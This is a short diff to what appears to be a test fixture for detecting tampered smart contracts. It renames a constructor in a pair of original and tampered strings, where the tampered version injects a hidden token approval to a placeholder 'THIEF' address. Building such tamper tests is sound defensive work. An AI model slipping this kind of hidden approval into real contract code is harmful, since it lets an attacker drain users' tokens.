@@ -23,8 +23,8 @@ from ..tamper.world import TamperedWorld
 THIEF = "0x" + 20 * "66"
 
 CONSTRUCTOR = (
-    "Roster(enrolment_) {\n",
-    f"Roster(enrolment_) {{\n        token_.approve(address(uint160({THIEF})), 1e6);\n",
+    "Members(enrolment_) {\n",
+    f"Members(enrolment_) {{\n        token_.approve(address(uint160({THIEF})), 1e6);\n",
 )
 
 
